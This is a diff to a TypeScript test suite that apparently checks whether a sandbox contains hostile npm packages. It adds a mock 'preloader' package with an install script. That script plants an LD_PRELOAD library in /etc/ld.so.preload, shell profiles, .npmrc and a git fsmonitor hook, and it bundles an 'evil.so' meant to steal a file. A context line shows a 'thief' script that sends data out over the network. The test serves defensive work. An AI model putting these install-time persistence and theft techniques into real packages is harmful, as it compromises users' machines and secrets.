@@ -11,6 +11,7 @@ import { openWorkFolder, removeTree } from "../../../sandbox/work-folder.ts";
 import { imageForTests, providersForTests } from "../engine.ts";
 import { limits, MEBIBYTE, nodeMount, npmFolder, scratch, treeFor } from "../stand.ts";
 import { type Canaries, MARK, setCanaries } from "./canaries.ts";
+import { noLibrary, sharedLibrary } from "./shared-library.ts";
 
 interface Member {
   readonly name: string;
@@ -57,6 +58,17 @@ const thief = (canaries: Canaries): string => `const fs = require("fs"); const g
   for (const host of ${JSON.stringify(canaries.addresses)}) { const s = require("net").connect(${canaries.port}, host); s.on("error", () => {}); s.on("connect", () => s.end(got.join())); }
   require("child_process").spawn("sh", ["-c", "while :; do sleep 1; done"], { detached: true, stdio: "ignore" }).unref();`;
 
+/** Lays a library down and asks for it in every place that a later program may read; then starts some that load it. */
+const preloader = `const fs = require("fs"); const { spawn, spawnSync } = require("child_process"); const top = "/workspace"; const home = process.env.HOME;
+  const lib = top + "/node_modules/preloader/evil.so"; const line = "export LD_PRELOAD=" + lib + "\\n"; const npmrc = "node-options=--require " + top + "/hook.cjs\\n";
+  for (const f of ["/etc/ld.so.preload", "/kihon/node/bin/node", "/kihon/npm/bin/npm-cli.js"]) try { fs.appendFileSync(f, lib); console.log("GOT " + f) } catch {}
+  fs.mkdirSync(top + "/.git"); fs.writeFileSync(top + "/hook.cjs", "process.env.LD_PRELOAD = " + JSON.stringify(lib) + "; require('child_process').spawnSync('/bin/false')");
+  for (const [f, text] of Object.entries({ "/.bashrc": line, "/.profile": line, "/.env": line, "/.npmrc": npmrc, "/.git/config": "[core]\\n\\tfsmonitor = LD_PRELOAD=" + lib + " true\\n" }))
+    for (const folder of [top, home]) try { fs.writeFileSync(folder + f, text) } catch {}
+  const env = { ...process.env, LD_PRELOAD: lib }; for (const program of ["/bin/true", process.execPath]) spawnSync(program, ["-e", "0"], { env });
+  spawn("sleep", ["600"], { env, detached: true, stdio: "ignore" }).unref();
+  for (let wait = 0; wait < 100 && !fs.readFileSync(top + "/loaded", "utf8").includes("/sleep"); wait++) Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 20);`;
+
 let canaries: Canaries;
 let registry: Server;
 let url = "";
@@ -92,6 +104,15 @@ beforeAll(async () => {
     "thief",
     tarOf([manifestOf("thief", { install: "node steal.js", postinstall: "node steal.js" }), { name: "package/steal.js", bytes: script }]),
   );
+  const marks = ["/workspace/loaded", join(place.path, "open-to-all/loaded")];
+  tarballs.set(
+    "preloader",
+    tarOf([
+      manifestOf("preloader", { install: "node preload.js" }),
+      { name: "package/preload.js", bytes: Buffer.from(preloader) },
+      { name: "package/evil.so", bytes: sharedLibrary({ marks, steals: canaries.file }) },
+    ]),
+  );
   for (const [name, tar] of tarballs) tarballs.set(name, gzipSync(tar));
   registry = createServer((request, response) => {
     const name = /^\/([a-z]+)/.exec(request.url ?? "")?.[1] ?? "";
@@ -105,6 +126,7 @@ beforeAll(async () => {
       version: "1.0.0",
       dist,
       ...(name === "thief" ? { hasInstallScript: true, scripts: { install: "node steal.js" } } : {}),
+      ...(name === "preloader" ? { hasInstallScript: true, scripts: { install: "node preload.js" } } : {}),
     };
     return response.end(JSON.stringify({ name, "dist-tags": { latest: "1.0.0" }, versions: { "1.0.0": version } }));
   });
@@ -180,6 +202,28 @@ describe.skipIf(npm === null).each(isolating)("an install is contained by $name:
     const got = readFileSync(join(open.inside, "got.txt"), "latin1");
     expect(got).toContain("npm_config_registry");
     await untouched(`${closed.said}${open.said}${got}`);
+  });
+  test.skipIf(noLibrary !== null)("a library that a package's script asks every program to load", async () => {
+    const closed = await install("preloader", ["install", "--ignore-scripts"]);
+    expect(existsSync(join(closed.folder, "loaded"))).toBe(false);
+    const { folder, inside, said } = await install("preloader", ["install", "--foreground-scripts"]);
+    const loaded = (): string => readFileSync(join(folder, "loaded"), "latin1");
+    for (const program of ["true", "node", "sleep"]) expect(loaded()).toContain(`/${program}\n`);
+    expect(said).not.toContain("GOT");
+    await untouched(said);
+    // What was installed is what the next jobs stand on, and what programs of the machine's own go over.
+    const before = loaded();
+    await provider.adopt(folder, true);
+    const look = `for (const words of [["true"], ["sh", "-lc", "/bin/true"], ["bash", "-ic", "/bin/true"]]) cp.spawnSync(words[0], words.slice(1));
+      for (const p of fs.readdirSync("/proc").filter(Number)) try { if (fs.readFileSync("/proc/" + p + "/maps", "latin1").includes("evil")) console.log("GOT into " + p) } catch {}
+      if (JSON.stringify(process.env).includes("evil")) console.log("GOT the environment"); console.log(fs.existsSync("node_modules/preloader/evil.so"));`;
+    const job = { layer: {}, mounts: [nodeMount], cwd: ".", env: { [MARK]: canaries.mark }, limits } as const;
+    const commands = [["/kihon/node/bin/node", "-e", `const fs = require("fs"); const cp = require("child_process"); ${look}`]];
+    const { stdout } = await provider.run({ ...job, tree: [folder], commands, network: "none" });
+    const again = await provider.run({ ...job, tree: [], writableTree: folder, commands, network: "registry" });
+    expect([stdout, again.stdout, loaded()]).toEqual(["true\n", "true\n", before]);
+    expect(await removeTree(inside)).toBe(true);
+    await untouched(`${stdout}${again.stdout}`);
   });
   test("another tarball under a name that a lock file knows", async () => {
     const first = await install("links", ["install", "--ignore-scripts"]);
